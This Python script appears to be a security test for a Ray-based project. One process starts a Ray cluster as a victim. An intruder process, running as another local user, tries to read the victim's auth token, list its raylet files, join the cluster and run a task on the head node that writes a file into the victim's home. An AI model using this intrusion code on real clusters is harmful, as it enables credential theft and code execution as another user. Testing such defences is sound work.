"""The attack of another local user on a run's Ray, played by two processes: its victim and its intruder."""

from __future__ import annotations

import contextlib
import json
import os
import sys
from pathlib import Path
from typing import Any

NOBODY = 65534  # a user without rights


def victim() -> None:
    """Start a Ray as a run does, print its address, and end with stdin."""
    from fedray.engine.cluster.ray_auth import show_token

    show_token()
    from fedray.engine.driver import session

    session.connect()
    import ray

    print(ray.get_runtime_context().gcs_address, flush=True)
    sys.stdin.read()


def intruder(home: str, address: str) -> None:
    """Print as JSON what another user reads and reaches: it adds a machine to the Ray, and sends a task to its head."""
    found: dict[str, Any] = {"uid": os.getuid(), "token": None, "joined": False, "ran_as": None, "folders": []}
    with contextlib.suppress(OSError):
        found["token"] = os.environ["RAY_AUTH_TOKEN"] = Path(home, ".ray/auth_token").read_text()
    os.environ.setdefault("RAY_AUTH_TOKEN", "0" * 64)
    os.environ |= {"RAY_AUTH_MODE": "token", "RAY_gcs_server_port_wait_time_s": "1"}
    for folder, _, names in os.walk(os.environ["VICTIMS_TMPDIR"]):
        found["folders"] += [os.path.join(folder, name) for name in names if "raylet" in name]
    import ray
    from ray._private import ray_constants
    from ray.scripts.scripts import cli
    from ray.util.scheduling_strategies import NodeAffinitySchedulingStrategy

    where: dict[str, Any] = {}
    try:
        if address.startswith("127."):
            ray_constants.ENABLE_RAY_CLUSTER = False  # else Ray would not look on the loopback
        else:  # the head can be reached from another address: add a machine
            where["_node_ip_address"] = "127.0.0.2"
            own = ["--num-cpus=0", f"--temp-dir={os.environ['TMPDIR']}", "--node-ip-address=127.0.0.2"]
            cli(["start", f"--address={address}", *own], standalone_mode=False)
        ray.init(address=address, log_to_driver=False, logging_level="error", **where)
        found["joined"] = True
        head = next(node["NodeID"] for node in ray.nodes() if "node:__internal_head__" in node["Resources"])

        @ray.remote(num_cpus=0, scheduling_strategy=NodeAffinitySchedulingStrategy(head, soft=False))
        def steal(file: str) -> int:
            Path(file).write_text("stolen")
            return os.getuid()

        found["ran_as"] = ray.get(steal.remote(f"{home}/stolen"), timeout=60)
    except Exception as error:  # noqa: BLE001 - whatever refuses it
        found["refused"] = f"{type(error).__name__}: {error}"
    print(json.dumps(found), flush=True)


if __name__ == "__main__":
    victim() if len(sys.argv) == 1 else intruder(*sys.argv[1:])
